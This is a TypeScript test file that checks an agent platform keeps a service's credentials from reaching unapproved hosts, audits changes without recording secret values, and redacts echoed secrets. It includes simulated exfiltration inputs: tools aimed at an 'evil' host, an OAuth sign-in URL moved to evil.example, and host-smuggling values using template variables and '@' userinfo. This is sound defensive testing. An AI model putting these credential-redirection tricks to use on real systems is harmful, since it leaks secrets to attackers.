import { expect, test } from "vitest";
import { converse, createAgent } from "../harness/agent.ts";
import { createTestApp } from "../harness/app.ts";
import { endpointTool } from "../harness/endpoint-tool.ts";
import { placesOf } from "../harness/everywhere.ts";
import { insightsOf, pastSession, runInsights } from "../harness/insights.ts";
import { createPeer, json } from "../harness/peer.ts";

/** Attacks of somebody who may write tools, on the secret of a service that others have set. */
test("a service's secret goes to no host that its tools don't call, by saving a tool or by trying one, and tries are audited", async () => {
  const app = await createTestApp();
  const [theirs, evil] = [await createPeer(), await createPeer()];
  const auth = { auth_type: "bearer", auth_values: { token: "the secret" } };
  const service = await app.send("POST", "/api/v1/services/", { name: "Billing", description: "", ...auth });
  const service_id = service.body.id;
  const tool = (name: string, url: string) => ({ name, service_id, definition: endpointTool(name, url) });
  await app.send("POST", "/api/v1/tools/", tool("bill", `${theirs.url}/bill`));
  const attacker = app.sendAs(await app.createToken(["tools_write", "tools_read"]));
  const steal = endpointTool("steal", `${evil.url}/x`);
  const attempt = { definition: steal, service_id, arguments: {} };
  expect((await attacker("POST", "/api/v1/tools/try", attempt)).status).toBe(422);
  const refused = await attacker("POST", "/api/v1/tools/", tool("steal", `${evil.url}/x`));
  expect(refused).toMatchObject({
    status: 422,
    body: {
      detail: [
        { loc: ["body", "definition", "endpoint", "url"], msg: expect.stringContaining("allowed hosts") },
      ],
    },
  });
  for (const address of ["127.0.0.1/x", `${hostOf(evil.url)}/x`, `${hostOf(theirs.url)}/{{ vars.path }}`]) {
    const bare = await attacker("POST", "/api/v1/tools/", tool("bare", address));
    expect(bare).toMatchObject({
      status: 422,
      body: {
        detail: [
          {
            loc: ["body", "definition", "endpoint", "url"],
            msg: expect.stringMatching(/^Begin the address with https:/),
          },
        ],
      },
    });
  }
  // A variable in place of the host is filled in when the tool is called.
  const hidden = {
    ...attempt,
    definition: endpointTool("steal", "{{ vars.host }}/x"),
    variables: { host: evil.url },
  };
  const { body: result } = await attacker("POST", "/api/v1/tools/try", hidden);
  expect(result).toMatchObject({
    request: null,
    error: expect.stringContaining("allowed hosts"),
  });
  const good = { ...attempt, definition: endpointTool("bill", `${theirs.url}/other`) };
  expect((await attacker("POST", "/api/v1/tools/try", good)).status).toBe(200);
  expect(theirs.requests).toHaveLength(1);
  expect(evil.requests).toEqual([]);
  const { items } = (await app.send("GET", "/api/v1/audit_entries/")).body;
  expect(items[0]).toMatchObject({ action: "try", after: { service_id, url: `${theirs.url}/other` } });
});

test("a secret is not kept when the sign-in server is moved", async () => {
  const app = await createTestApp();
  const values = { client_id: "us", client_secret: "secret", auth_url: "https://login.example.com/token" };
  const body = { name: "CRM", description: "", auth_type: "oauth2" };
  const { id } = (await app.send("POST", "/api/v1/services/", { ...body, auth_values: values })).body;
  const moved = { client_id: null, client_secret: null, auth_url: "https://evil.example/token" };
  const put = (auth_values: object) => app.send("PUT", "/api/v1/services/", { id, ...body, auth_values });
  expect((await put(moved)).status).toBe(422);
  expect((await put({ ...moved, client_secret: "given again" })).status).toBe(200);
  expect((await put({ client_id: null, client_secret: null, auth_url: null })).status).toBe(200);
});

const bearer = { auth_type: "bearer", auth_values: { token: "the secret" } };
const keeping = { auth_type: "bearer", auth_values: { token: null } };
const hostOf = (url: string) => new URL(url).host;

test("a host is added to a service only with its secret, also by who may write services; removing one needs none", async () => {
  const app = await createTestApp();
  const put = (body: object) =>
    app.send("PUT", "/api/v1/services/", { name: "Billing", description: "", ...body });
  const made = {
    name: "Billing",
    description: "",
    ...bearer,
    allowed_hosts: ["API.example.com", "b.example.com:8443"],
  };
  const { id, allowed_hosts } = (await app.send("POST", "/api/v1/services/", made)).body;
  expect(allowed_hosts).toEqual(["api.example.com", "b.example.com:8443"]);
  const wider = { id, ...keeping, allowed_hosts: [...allowed_hosts, "evil.example"] };
  expect(await put(wider)).toMatchObject({
    status: 422,
    body: {
      detail: [{ loc: ["body", "auth_values", "token"], msg: expect.stringContaining("evil.example") }],
    },
  });
  // The whole map omitted keeps the secret as well, and another kind of credentials takes nothing over.
  expect((await put({ ...wider, auth_values: undefined })).status).toBe(422);
  const renamed = {
    id,
    auth_type: "custom_headers",
    auth_values: { token: null },
    allowed_hosts: ["evil.example"],
  };
  expect((await put(renamed)).body.auth_value_keys).toBeNull();
  await put({ id, ...bearer });
  expect((await put({ id, ...keeping })).body.allowed_hosts).toEqual(["evil.example"]);
  expect((await put({ id, ...bearer, allowed_hosts: ["api.example.com", "b.example.com"] })).status).toBe(
    200,
  );
  expect((await put({ id, ...keeping, allowed_hosts: ["api.example.com"] })).body.allowed_hosts).toEqual([
    "api.example.com",
  ]);
  for (const wrong of [
    "https://a.example",
    "a.example/x",
    "u@a.example",
    "*.example.com",
    "{{ vars.host }}",
    "a b",
  ]) {
    const answer = await put({ id, ...bearer, allowed_hosts: [wrong] });
    expect(answer).toMatchObject({ status: 422, body: { detail: [{ loc: ["body", "allowed_hosts", 0] }] } });
  }
});

test("a tool whose host is an argument, a variable, or no longer allowed sends nothing, in a conversation too", async () => {
  const app = await createTestApp();
  const [theirs, evil] = [await createPeer(), await createPeer()];
  const input = { name: "Billing", description: "", ...bearer, allowed_hosts: [hostOf(theirs.url)] };
  const { id: service_id } = (await app.send("POST", "/api/v1/services/", input)).body;
  const attempt = async (definition: object, more: object = {}) =>
    await app.send("POST", "/api/v1/tools/try", { definition, service_id, arguments: {}, ...more });
  const byArgument = endpointTool("bill", "{place}/x", {
    parameters: { type: "object", properties: { place: { type: "string" } } },
    endpoint: { argument_location: "path" },
  });
  const places = [
    attempt(byArgument, { arguments: { place: evil.url } }),
    attempt(endpointTool("bill", "http://{{ vars.host }}/x"), { variables: { host: hostOf(evil.url) } }),
    attempt(endpointTool("bill", `http://${hostOf(theirs.url)}{{ vars.tail }}/x`), {
      variables: { tail: `@${hostOf(evil.url)}` },
    }),
    attempt(endpointTool("bill", `http://${hostOf(theirs.url)}@${hostOf(evil.url)}/x`)),
  ];
  for (const answer of await Promise.all(places)) {
    expect(answer.status === 422 || answer.body.error !== null).toBe(true);
  }
  const tool = { name: "bill", service_id, definition: endpointTool("bill", `${theirs.url}/bill`) };
  expect((await app.send("POST", "/api/v1/tools/", tool)).status).toBe(200);
  const narrow = { id: service_id, name: "Billing", description: "", ...keeping, allowed_hosts: [] };
  expect((await app.send("PUT", "/api/v1/services/", narrow)).body.allowed_hosts).toEqual([]);
  expect((await attempt(tool.definition)).status).toBe(422);
  const { agent_id } = await createAgent(app, {
    script: 'on "go" -> call moved {}\nafter moved if error -> say "No."\nafter moved -> say "Yes."',
    tools: [endpointTool("moved", `${theirs.url}/moved`)],
  });
  await app.db.updateTable("tools").set({ service_id }).where("name", "=", "moved").execute();
  const say = converse(app, agent_id);
  await say("");
  expect((await say("go")).text).toBe("No.");
  expect([...theirs.requests, ...evil.requests]).toEqual([]);
});

test("a service made by a client that knows no hosts is settled by its first tool, and by nobody who may not write services", async () => {
  const app = await createTestApp();
  const [theirs, evil] = [await createPeer(), await createPeer()];
  const input = { name: "Billing", description: "", ...bearer };
  const { id: service_id } = (await app.send("POST", "/api/v1/services/", input)).body;
  const tool = (name: string, url: string) => ({ name, service_id, definition: endpointTool(name, url) });
  const attacker = app.sendAs(await app.createToken(["tools_write"]));
  const refused = await attacker("POST", "/api/v1/tools/", tool("steal", `${evil.url}/x`));
  expect(refused).toMatchObject({
    status: 403,
    body: { detail: expect.stringContaining("services_write") },
  });
  // A variable settles nothing, whoever saves it.
  const anywhere = tool("any", "{{ vars.host }}/x");
  expect((await app.send("POST", "/api/v1/tools/", anywhere)).status).toBe(422);
  expect((await app.send("POST", "/api/v1/tools/", tool("bill", `${theirs.url}/x`))).status).toBe(200);
  const { items } = (await app.send("GET", "/api/v1/audit_entries/")).body;
  expect(items[1]).toMatchObject({
    action: "update",
    resource: "services",
    resource_id: String(service_id),
    before: { allowed_hosts: null },
    after: { allowed_hosts: [hostOf(theirs.url)] },
  });
  const { body } = await app.send("GET", `/api/v1/services/${service_id}`);
  expect(body.allowed_hosts).toEqual([hostOf(theirs.url)]);
  expect((await app.send("POST", "/api/v1/tools/", tool("other", `${evil.url}/x`))).status).toBe(422);
  const insight = {
    name: "Send",
    description: "",
    version: 1,
    insight_tool_definition_id: 4,
    tool_arguments: { url: `${evil.url}/x`, service_id },
  };
  expect(await app.send("POST", "/api/v1/insights/tool-configurations", insight)).toMatchObject({
    status: 422,
    body: { detail: [{ loc: ["body", "tool_arguments", "url"] }] },
  });
});

test("the audit trail of a service tells what moved, and which secrets were given, without a value", async () => {
  const app = await createTestApp();
  const body = { name: "CRM", description: "", auth_type: "oauth2" };
  const values = {
    client_id: "us",
    client_secret: "hush-1",
    auth_url: "https://login.example.com/token?key=hush-2",
  };
  const made = { ...body, auth_values: values, allowed_hosts: ["a.example.com"] };
  const { id, auth_url } = (await app.send("POST", "/api/v1/services/", made)).body;
  expect(auth_url).toBe("https://login.example.com/token");
  const moved = { client_id: null, client_secret: "hush-3", auth_url: "https://other.example.com/token" };
  const put = { id, ...body, auth_values: moved, allowed_hosts: ["a.example.com", "b.example.com"] };
  expect((await app.send("PUT", "/api/v1/services/", put)).status).toBe(200);
  const bearer = { id, ...body, auth_type: "bearer", auth_values: { token: "hush-4" } };
  expect((await app.send("PUT", "/api/v1/services/", bearer)).status).toBe(200);
  const { items } = (await app.send("GET", "/api/v1/audit_entries/")).body;
  expect(items[1]).toMatchObject({
    action: "update",
    resource: "services",
    before: { auth_url: "https://login.example.com/token", allowed_hosts: ["a.example.com"] },
    after: {
      auth_url: "https://other.example.com/token",
      allowed_hosts: ["a.example.com", "b.example.com"],
      secrets_set: ["client_secret", "auth_url"],
    },
  });
  expect(items[0]).toMatchObject({
    before: { auth_type: "oauth2" },
    after: { auth_type: "bearer", secrets_set: ["token"] },
  });
  expect(JSON.stringify(items)).not.toContain("hush");
});

test("what a service repeats of its credentials reaches no model, no visitor, no try, no insight and no table", async () => {
  const app = await createTestApp();
  const peer = await createPeer();
  const hush = 'hush/7"Xq+92';
  const ways = [
    ["bearer", { token: hush }],
    ["basic", { username: "clinic", password: hush }],
    ["custom_headers", { "x-api-key": hush, "x-clinic-id": "clinic-number-12" }],
  ] as const;
  for (const [at, [auth_type, auth_values]] of ways.entries()) {
    const service = { auth_type, auth_values, allowed_hosts: [hostOf(peer.url)] };
    const tool = endpointTool(`echo_${at}`, `${peer.url}/echo`);
    const { agent_id } = await createAgent(app, {
      script: `on "go" -> call echo_${at} {}\nafter echo_${at} -> say "Got {result.echo} {result.password}."`,
      tools: [tool],
      service,
    });
    let more = {};
    peer.respond(({ headers }, response) => {
      const echo = `${headers.authorization ?? headers["x-api-key"]} ${headers["x-clinic-id"]}`;
      json(response, 200, { echo, password: hush, [hush]: "as a name", ...more });
    });
    const say = converse(app, agent_id);
    await say("");
    const { text, content } = await say("go");
    expect(text).toContain("(hidden)");
    // What is no secret stays: the next call may need it.
    if (auth_type === "custom_headers") expect(text).toContain("clinic-number-12");

    const { service_id } = await app.db
      .selectFrom("tools")
      .select("service_id")
      .where("name", "=", `echo_${at}`)
      .executeTakeFirstOrThrow();
    const tried = await app.send("POST", "/api/v1/tools/try", {
      definition: tool,
      service_id,
      arguments: {},
    });
    expect(tried.body.result).toMatchObject({ password: "(hidden)", "(hidden)": "as a name" });
    // Of a long answer the model reads the beginning, and all of it is kept.
    more = { long: "x".repeat(70_000) };
    await say("go");

    const make = insightsOf(app);
    const insight = await make.tool({
      insight_tool_definition_id: 4,
      tool_arguments: { url: `${peer.url}/echo`, service_id },
    });
    const workflow = await make.workflow({ source: "manual", insight_tool_ids: [insight.id] });
    const over = await pastSession(app, app.admin, { said: [["user", "Hello"]] });
    const queue = { workflow_name: workflow.name, session_id_list: [over] };
    await app.send("POST", "/api/v1/insights/workflows/queue-work", queue);
    await runInsights(app);

    const seen = [
      text,
      tried.body,
      (await app.send("GET", `/api/v1/sessions/transcript/${content.session_id}`)).body,
      (await app.send("GET", `/api/v1/sessions/${content.session_id}/trace`)).body,
      (await app.send("GET", "/api/v1/insights/")).body,
    ];
    for (const one of seen.map((answer) => JSON.stringify(answer))) {
      expect(one).toContain("(hidden)");
      for (const spelled of spellings(hush)) expect(one).not.toContain(spelled);
    }
  }
  for (const spelled of spellings(hush)) expect(await placesOf(app, spelled)).toEqual([]);
});

const spellings = (secret: string) => [secret, JSON.stringify(secret).slice(1, -1), btoa(`clinic:${secret}`)];
